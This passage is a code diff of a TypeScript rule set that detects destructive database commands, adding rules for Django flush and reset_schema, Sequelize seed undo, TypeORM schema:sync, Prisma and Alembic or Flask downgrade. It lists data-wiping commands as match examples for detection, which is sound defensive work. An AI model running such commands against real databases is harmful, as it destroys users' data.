     summary: 'Resets the database Prisma points at before pushing the schema, deleting all data',
@@ -647,7 +982,7 @@ export const sqlRules: readonly Rule[] = [
   },
   {
     id: 'prisma.db-push-accept-data-loss',
-    programs: ['prisma'],
+    programs: PRISMA_PROGRAMS,
     category: 'sql',
     severity: 'high',
     summary: 'Pushes a schema change that Prisma warned will drop columns or tables with data',
@@ -663,14 +998,15 @@ export const sqlRules: readonly Rule[] = [
     programs: ['python', 'python3', 'py', 'manage.py', 'django-admin', 'django-admin.py'],
     category: 'sql',
     severity: 'critical',
-    summary: 'Deletes all data from every table of the Django database (flush / reset_db)',
+    summary: 'Deletes all data from every table of the Django database (flush / reset_db / reset_schema)',
     hint: 'Check DJANGO_SETTINGS_MODULE / DATABASE_URL first and run dumpdata before flushing',
     match: (a) => {
       const sub = djangoCommand(a)[0];
-      return sub === 'flush' || sub === 'reset_db';
+      return sub === 'flush' || sub === 'reset_db' || sub === 'reset_schema';
     },
+    targets: djangoTargets,
     examples: {
-      match: ['python manage.py flush --noinput', './manage.py flush', 'django-admin flush --settings=app.settings.prod', 'python3 manage.py reset_db', 'uv run python manage.py flush'],
+      match: ['python manage.py flush --noinput', './manage.py flush', 'django-admin flush --settings=app.settings.prod', 'python3 manage.py reset_db', 'uv run python manage.py flush', 'python manage.py reset_schema --noinput'],
       noMatch: ['python manage.py migrate', 'python manage.py sqlflush', 'python manage.py showmigrations'],
     },
   },
@@ -685,6 +1021,7 @@ export const sqlRules: readonly Rule[] = [
       const cmd = djangoCommand(a);
       return cmd[0] === 'migrate' && cmd[2] === 'zero';
     },
+    targets: djangoTargets,
     examples: {
       match: ['python manage.py migrate billing zero', './manage.py migrate --noinput orders zero'],
       noMatch: ['python manage.py migrate billing 0003', 'python manage.py migrate'],
@@ -733,6 +1070,19 @@ export const sqlRules: readonly Rule[] = [
     },
   },
   {
+    id: 'sequelize.seed-undo-all',
+    programs: ['sequelize', 'sequelize-cli'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Undoes every Sequelize seeder, deleting the rows they inserted',
+    hint: 'Back up the seeded tables first and undo one seeder at a time (db:seed:undo --seed NAME)',
+    match: (a) => a.positionals[0] === 'db:seed:undo:all',
+    examples: {
+      match: ['npx sequelize-cli db:seed:undo:all', 'sequelize db:seed:undo:all --env production'],
+      noMatch: ['sequelize db:seed:all', 'sequelize db:seed:undo --seed 20240101-demo-users.js'],
+    },
+  },
+  {
     id: 'ecto.drop',
     programs: ['mix'],
     category: 'sql',
@@ -763,16 +1113,31 @@ export const sqlRules: readonly Rule[] = [
     },
   },
   {
+    id: 'typeorm.schema-sync',
+    programs: ['typeorm', 'typeorm-ts-node-commonjs', 'typeorm-ts-node-esm'],
+    category: 'sql',
+    severity: 'high',
+    summary: 'Synchronizes the database with the entities, dropping columns and tables they no longer declare',
+    hint: 'Generate a migration (typeorm migration:generate), read its SQL, and run it with migration:run',
+    match: (a) => a.positionals[0] === 'schema:sync',
+    targets: (a) => nonEmpty(flagValues(a.list, ['-d', '--dataSource'])),
+    examples: {
+      match: ['typeorm schema:sync -d src/data-source.ts', 'npx typeorm-ts-node-esm schema:sync --dataSource ./src/prod-source.ts'],
+      noMatch: ['typeorm schema:log -d src/data-source.ts', 'typeorm migration:generate src/migrations/Init -d src/data-source.ts'],
+    },
+  },
+  {
     id: 'alembic.downgrade-base',
-    programs: ['alembic'],
+    programs: ['alembic', 'flask'],
     category: 'sql',
     severity: 'critical',
     summary: 'Unapplies every Alembic migration, dropping the tables they created',
     hint: 'Back up the database first and downgrade one revision at a time (alembic downgrade -1)',
-    match: (a) => a.sub('downgrade', 'base'),
+    // `--sql` only prints the migration script (offline mode); `flask db` is Flask-Migrate's Alembic.
+    match: (a) => (a.program === 'alembic' ? a.sub('downgrade', 'base') : a.sub('db', 'downgrade', 'base')) && !a.has('--sql'),
     examples: {
-      match: ['alembic downgrade base', 'alembic -c alembic.ini downgrade base'],
-      noMatch: ['alembic downgrade -1', 'alembic upgrade head'],
+      match: ['alembic downgrade base', 'alembic -c alembic.ini downgrade base', 'flask db downgrade base', 'flask --app app db downgrade base'],
+      noMatch: ['alembic downgrade -1', 'alembic upgrade head', 'alembic downgrade base --sql', 'flask db downgrade', 'flask db upgrade'],
     },
   },
 ];
